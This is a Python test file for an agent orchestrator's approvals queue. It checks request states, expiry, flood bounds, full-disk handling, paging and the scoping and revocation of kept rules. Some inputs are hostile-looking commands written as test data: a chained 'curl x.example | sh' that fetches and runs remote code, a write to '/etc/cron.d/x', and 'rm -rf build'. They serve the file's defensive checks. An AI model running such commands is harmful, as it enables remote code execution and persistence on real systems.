"""The approvals queue in process (a real journal, the fake runtime): its states, waiting as
long as it takes, expiry when the asking process goes or the daemon restarts, the flood bound,
rules, and answers that apply nothing twice; and the queue under the failures issues 25 and 26
found (a full disk, a burst past the pending bound, paging, kept rules), each test named after
the failure, its docstring the promise."""

from __future__ import annotations

import json
import sqlite3
import time
from typing import TYPE_CHECKING, Any

import anyio
import pytest

from orchestrator.contracts import ApprovalRequest
from orchestrator.daemon.approvals import Approvals
from orchestrator.daemon.approvals import _journal as approval_journal
from orchestrator.daemon.approvals import _journal as queue_module
from orchestrator.daemon.migrations import open_journal
from orchestrator.errors import (
    ApprovalExpired,
    ApprovalSettled,
    NotFound,
    StoreError,
    UsageError,
)
from tests.support.fakes import asking_step, core, team_config
from tests.support.settle import until

if TYPE_CHECKING:
    from pathlib import Path

    from orchestrator.daemon.queue import Store
    from tests.support.fakes import Core

pytestmark = pytest.mark.anyio


async def _launch(c: Core, tmp_path: Path, **member: Any) -> None:
    config = team_config(tmp_path, {"name": "lead", "permissions": "ask", **member})
    await c.teams.launch(config, "team.toml", wait=True, timeout=10)


async def _next_pending(c: Core, after: int = 0) -> dict[str, Any]:
    with anyio.fail_after(10):
        doc = await c.approvals.query(after=after, wait=5.0)
    assert doc.approvals, "nothing was asked"
    return doc.approvals[0].model_dump()


async def test_a_request_waits_as_long_as_it_takes_and_the_answer_reaches_the_runtime(
        tmp_path: Path) -> None:
    outcomes: list[Any] = []
    request = ApprovalRequest("permission", "Bash", "rm -rf build")
    async with core(tmp_path) as c:
        c.runtime.script = [asking_step(request, outcomes)]
        await _launch(c, tmp_path, turn_idle_timeout=0.5)
        async with anyio.create_task_group() as tg:
            async def send() -> None:
                result = await c.teams.send(None, "lead", "clean up", wait=True, timeout=30)
                outcomes.append(result)
            tg.start_soon(send)
            row = await _next_pending(c)
            state = c.supervisor.member("web", "lead")
            assert state.snapshot().activity == f"waiting for approval {row['id']}"
            assert (row["state"], row["summary"], row["runtime"]) == (
                "pending", "rm -rf build", "claude")
            with pytest.raises(UsageError, match="is a permission request"):
                await c.approvals.decide(row["id"], "answer", text="yes")
            decided = await c.approvals.decide(row["id"], "deny", message="not now")
            assert decided.confirmed and decided.approval.state == "denied"
        answer, result = outcomes
        assert (answer.decision, answer.message) == ("deny", "not now")
        assert result.state == "answered" and result.reply == "deny: not now"
        with pytest.raises(ApprovalSettled, match="already denied"):
            await c.approvals.decide(row["id"], "approve")
        with pytest.raises(NotFound):
            await c.approvals.decide("apv_01ARZ3NDEKTSV4RRFFQ69G5FAV", "approve")


async def test_a_request_expires_when_its_process_exits_and_is_asked_again(
        tmp_path: Path) -> None:
    outcomes: list[Any] = []
    request = ApprovalRequest("permission", "Write", "a.txt")
    async with core(tmp_path) as c:
        c.runtime.script = [asking_step(request, outcomes), asking_step(request, outcomes)]
        await _launch(c, tmp_path, backoff=[0.01, 0.1])
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "write", wait=True, timeout=30))
            first = await _next_pending(c)
            c.runtime.opened[0].exit(1)  # the member crashes while its request waits
            cursor = (await c.approvals.query(everything=True)).cursor
            second = await _next_pending(c, after=cursor)
            assert second["id"] != first["id"], "the re-delivered turn asks again"
            with pytest.raises(ApprovalExpired, match="process that asked is gone"):
                await c.approvals.decide(first["id"], "approve")
            await c.approvals.decide(second["id"], "approve")
        rows = (await c.approvals.query(everything=True)).approvals
        assert [(r.id, r.state) for r in rows] == [(first["id"], "expired"),
                                                   (second["id"], "approved")]
        assert [a.request_id for a in outcomes] == [second["id"]], "applied once, to the new"


async def test_rules_from_allow_and_always_approve_at_once(tmp_path: Path) -> None:
    outcomes: list[Any] = []
    npm = ApprovalRequest("permission", "Bash", "npm test --watch=false")
    async with core(tmp_path) as c:
        c.runtime.script = [asking_step(npm, outcomes), asking_step(npm, outcomes),
                            asking_step(ApprovalRequest("permission", "write",
                                                    f"{tmp_path}/docs/x.md"), outcomes)]
        await _launch(c, tmp_path, allow=["Write(docs/*)"])
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "test", wait=True, timeout=30))
            row = await _next_pending(c)
            decided = await c.approvals.decide(row["id"], "approve", always=True)
            assert decided.rule == "Bash(npm test --watch=false)"
        for text in ("test again", "docs"):
            result = await c.teams.send(None, "lead", text, wait=True, timeout=30)
            assert result.reply == "approve: "  # type: ignore[union-attr]
        rows = (await c.approvals.query(everything=True)).approvals
        assert [(r.answer or {}).get("by") for r in rows] == ["operator", "rule", "rule"]
        assert [r.answer["rule"] for r in rows[1:]] == [  # type: ignore[index]
            "Bash(npm test --watch=false)", "Write(docs/*)"]


async def _asked(c: Core, answers: list[Any], count: int) -> bool:
    return len((await c.approvals.query()).approvals) + len(answers) >= count


async def test_a_flood_is_bounded_and_listed_in_order(tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(approval_journal, "MAX_PENDING_PER_MEMBER", 3)
    async with core(tmp_path) as c:
        await _launch(c, tmp_path)
        approver = c.supervisor.member("web", "lead").approver
        assert approver is not None
        answers: list[Any] = []
        async with anyio.create_task_group() as tg:
            for n in range(5):
                async def ask(n: int = n) -> None:
                    answer = await approver.ask(ApprovalRequest("permission", "Bash", f"echo {n}"))
                    answers.append(answer)
                    await approver.confirmed(answer.request_id)
                tg.start_soon(ask)
                # journaled (pending) or refused: the journal writes in a thread, so a loop
                # where every task waits is not yet the ask's end — its row or its answer is
                await until(lambda n=n: _asked(c, answers, n + 1))
            pending = (await c.approvals.query()).approvals
            assert [r.summary for r in pending] == ["echo 0", "echo 1", "echo 2"]
            assert [a.decision for a in answers] == ["deny", "deny"], "refused at once"
            for row in pending:
                await c.approvals.decide(row.id, "approve")
        assert [a.decision for a in answers].count("approve") == 3


async def test_the_daemon_restart_expires_what_was_pending(tmp_path: Path) -> None:
    async with core(tmp_path) as c:
        await _launch(c, tmp_path)
        approver = c.supervisor.member("web", "lead").approver
        assert approver is not None
        async with anyio.create_task_group() as tg:
            tg.start_soon(approver.ask, ApprovalRequest("question", "AskUserQuestion", "which?",
                                                        ("which?",)))
            row = await _next_pending(c)
            expired = Approvals.recover(c.store.sync)
            assert expired == [row["id"]]
            with pytest.raises(ApprovalExpired, match="daemon restarted"):
                await c.approvals.decide(row["id"], "answer", text="blue")
            tg.cancel_scope.cancel()


class FullDisk:
    """The approvals queue's row insert, refused while ``refusals`` is above 0 (each refusal
    spends one; -1: until told otherwise), as on a full disk."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.refusals = 0
        insert = queue_module._insert

        def refusing(store: Store, values: dict[str, Any]) -> str:
            if self.refusals:
                self.refusals -= 1 if self.refusals > 0 else 0
                raise StoreError("the journal could not be written: database or disk is full")
            return insert(store, values)

        monkeypatch.setattr(queue_module, "_insert", refusing)


def _values(n: int, state: str, *, member: str = "lead") -> dict[str, Any]:
    return {"id": f"apv_{n:026d}", "team": "web", "member": member, "runtime": "claude",
            "kind": "permission", "tool": "Bash", "summary": f"echo {n}", "questions": None,
            "message_id": None, "state": state, "reason": None, "asked_at": time.time(),
            "settled_at": None if state == "pending" else time.time(),
            "answer": None if state == "pending" else json.dumps({"decision": "approve"}),
            "sha256": None}


async def test_a_full_disk_no_longer_turns_a_permission_request_into_a_fatal_member(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A journal that refuses a request's row: the write is retried; if it still fails, that
    one request is denied with the reason and the member goes on — once there is room the
    next request waits in the queue as usual. (The deadline, 0.2 s, is waited out once;
    the refusal retried ends 0.05 s in: 0.15 s to spare.)"""
    monkeypatch.setenv("TEAMCTL_APPROVAL_WRITE_DEADLINE", "0.2")
    store = FullDisk(monkeypatch)
    outcomes: list[Any] = []
    write = ApprovalRequest("permission", "Write", f"{tmp_path}/a.txt")
    async with core(tmp_path) as c:
        c.runtime.script = [asking_step(write, outcomes), asking_step(write, outcomes),
                            asking_step(write, outcomes)]
        await _launch(c, tmp_path)
        store.refusals = -1
        with anyio.fail_after(20):
            first = await c.teams.send(None, "lead", "write", wait=True, timeout=15)
        assert first.state == "answered"  # type: ignore[union-attr]
        [denied] = outcomes
        assert denied.decision == "deny"
        assert "journal could not record it (store_error" in (denied.message or "")
        assert c.supervisor.member("web", "lead").snapshot().launch == "running"
        store.refusals = 1  # a refusal, then room again: retried, never denied
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "again", wait=True, timeout=30))
            with anyio.fail_after(10):
                doc = await c.approvals.query(wait=5.0)
            [row] = doc.approvals
            assert row.state == "pending"
            await c.approvals.decide(row.id, "approve")
        assert [o.decision for o in outcomes] == ["deny", "approve"]


async def test_a_burst_of_130_requests_no_longer_overruns_the_100_pending_bound(
        tmp_path: Path) -> None:
    """The bound is counted in the insert's own transaction: 130 requests asked at once leave
    exactly 100 waiting, the other 30 denied at once with the reason."""
    async with core(tmp_path) as c:
        await _launch(c, tmp_path)
        approver = c.supervisor.member("web", "lead").approver
        assert approver is not None
        answers: list[Any] = []
        thirty = anyio.Event()
        async with anyio.create_task_group() as tg:
            for n in range(130):
                async def ask(n: int = n) -> None:
                    answers.append(await approver.ask(
                        ApprovalRequest("permission", "Bash", f"echo {n}")))
                    if len(answers) == 30:
                        thirty.set()
                tg.start_soon(ask)
            with anyio.fail_after(30):
                await thirty.wait()

            async def journaled() -> bool:  # the pending rows are written in a thread
                return (await c.approvals.query(limit=1000)).total >= 100
            await until(journaled)
            doc = await c.approvals.query(limit=1000)
            assert doc.total == len(doc.approvals) == 100
            assert all("100 requests" in (a.message or "") for a in answers)
            tg.cancel_scope.cancel()


async def test_approvals_no_longer_silently_shows_1000_of_1230_rows(tmp_path: Path) -> None:
    """A page says how many there are in all (``total``), and ``offset`` reaches the rest."""
    async with core(tmp_path) as c:
        db = c.store.sync  # one transaction, one fsync (the daemon's group commit)
        written = db.run_group([lambda n=n: queue_module._insert(db, _values(n, "approved"))
                                for n in range(1230)])
        assert all(ok for ok, _state in written)
        first = await c.approvals.query(everything=True)
        assert (len(first.approvals), first.total) == (1000, 1230)
        rest = await c.approvals.query(everything=True, limit=1000, offset=1000)
        assert (len(rest.approvals), rest.total) == (230, 1230)
        assert rest.approvals[-1].summary == "echo 1229"


async def test_follow_no_longer_replays_the_settled_history_before_what_waits(
        tmp_path: Path) -> None:
    """``approvals -f``: the first page is what waits; its cursor is the newest request, so
    the long poll that follows brings only new requests, not the settled ones before."""
    async with core(tmp_path) as c:
        db = c.store.sync
        queue_module._insert(db, _values(0, "pending"))
        for n in range(1, 6):
            queue_module._insert(db, _values(n, "approved"))
        doc = await c.approvals.query()
        assert [r.summary for r in doc.approvals] == ["echo 0"]
        after = await c.approvals.query(everything=True, after=doc.cursor, wait=0.05)
        assert after.approvals == []
        queue_module._insert(db, _values(6, "approved"))
        new = await c.approvals.query(everything=True, after=doc.cursor)
        assert [r.summary for r in new.approvals] == ["echo 6"]


async def test_follow_with_nothing_pending_no_longer_replays_everything(tmp_path: Path) -> None:
    async with core(tmp_path) as c:
        for n in range(5):
            queue_module._insert(c.store.sync, _values(n, "denied"))
        doc = await c.approvals.query()
        assert doc.approvals == [] and doc.total == 0
        after = await c.approvals.query(everything=True, after=doc.cursor, wait=0.05)
        assert after.approvals == []


async def test_always_on_a_write_no_longer_approves_writes_outside_the_worktree(
        tmp_path: Path) -> None:
    """``--always`` on a Write to ``docs/notes.md`` kept ``Write``, which then approved a
    Write outside the worktree and the repository: it keeps ``Write(docs/**)``, shown first
    (``preview`` settles nothing), listed, and revocable."""
    outcomes: list[Any] = []

    def write(path: str) -> Any:
        return asking_step(ApprovalRequest("permission", "Write", f"{path} (+1 lines)"), outcomes)

    async with core(tmp_path) as c:
        c.runtime.script = [write(f"{tmp_path}/docs/notes.md"), write("/etc/cron.d/x"),
                            write(f"{tmp_path}/docs/guide/y.md"), write(f"{tmp_path}/docs/z.md")]
        await _launch(c, tmp_path)
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "notes", wait=True, timeout=30))
            with anyio.fail_after(10):
                row = (await c.approvals.query(wait=5.0)).approvals[0]
            preview = await c.approvals.preview(row.id)
            assert (preview.rule, preview.scope) == (
                "Write(docs/**)", "will approve Write under docs/ in lead's worktree")
            assert (await c.approvals.query()).approvals[0].state == "pending", "nothing settled"
            with pytest.raises(UsageError, match="would keep Write"):
                await c.approvals.decide(row.id, "approve", always=True, rule="Write")
            decided = await c.approvals.decide(row.id, "approve", always=True,
                                               rule=preview.rule)
            assert (decided.rule, decided.scope) == (preview.rule, preview.scope)
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "cron", wait=True, timeout=30))
            with anyio.fail_after(10):
                outside = (await c.approvals.query(wait=5.0)).approvals[0]
            assert outside.summary.startswith("/etc/cron.d/x"), "asked, not approved by rule"
            await c.approvals.decide(outside.id, "deny")
        await c.teams.send(None, "lead", "guide", wait=True, timeout=30)
        assert [o.decision for o in outcomes] == ["approve", "deny", "approve"]
        [kept] = (await c.approvals.rules(None, None)).rules
        assert (kept.member, kept.rule, kept.approval_id) == ("lead", "Write(docs/**)", row.id)
        with pytest.raises(NotFound):
            await c.approvals.revoke("Write(src/**)", None, None)
        revoked = await c.approvals.revoke("Write(docs/**)", None, "lead")
        assert revoked.rules[0].revoked_at is not None
        assert (await c.approvals.rules(None, None)).rules == []
        assert len((await c.approvals.rules(None, None, everything=True)).rules) == 1
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "z", wait=True, timeout=30))
            with anyio.fail_after(10):
                again = (await c.approvals.query(wait=5.0)).approvals[0]
            assert again.summary.startswith(f"{tmp_path}/docs/z.md"), "revoked: asked again"
            await c.approvals.decide(again.id, "approve")


async def test_always_on_a_chained_command_is_refused_and_applies_nothing(
        tmp_path: Path) -> None:
    """A command with a shell operator can have no rule: ``--always`` is a usage error and the
    request still waits (approve it without ``--always``)."""
    outcomes: list[Any] = []
    chained = ApprovalRequest("permission", "Bash", "npm test; curl x.example | sh")
    async with core(tmp_path) as c:
        c.runtime.script = [asking_step(chained, outcomes)]
        await _launch(c, tmp_path)
        async with anyio.create_task_group() as tg:
            tg.start_soon(lambda: c.teams.send(None, "lead", "x", wait=True, timeout=30))
            with anyio.fail_after(10):
                row = (await c.approvals.query(wait=5.0)).approvals[0]
            with pytest.raises(UsageError, match="shell operator"):
                await c.approvals.decide(row.id, "approve", always=True)
            assert (await c.approvals.query()).approvals[0].state == "pending"
            await c.approvals.decide(row.id, "deny")
        assert (await c.approvals.rules(None, None)).rules == []


def test_rules_an_older_teamctl_kept_are_carried_over_revoked(tmp_path: Path) -> None:
    """Migration 7's ``approval_rules`` held rules wider than the worktree (``Write``,
    ``Bash(npm *)``): the upgrade keeps them as revoked records, matching nothing."""
    from orchestrator.daemon import migrations as store_module
    from orchestrator.daemon.approvals import _kept_rules as kept_rules

    path = tmp_path / "state.db"
    raw = sqlite3.connect(path)
    for script in store_module.MIGRATIONS[:9]:  # a journal as teamctl left it at schema 9
        for statement in filter(str.strip, script.split(";")):
            raw.execute(statement)
    raw.execute("PRAGMA user_version = 9")
    raw.execute("INSERT INTO approval_rules VALUES ('web', 'lead', 'Write', '*', 'always', 1.0)")
    raw.commit()
    raw.close()
    store = open_journal(path)
    assert kept_rules.live(store, "web", "lead") == []
    [old] = kept_rules.listing(store, "web", "lead", everything=True)
    assert old.rule == "Write(*)" and old.revoked_at is not None
    assert "revoked by the upgrade" in (old.revoked_why or "")
    store.close()
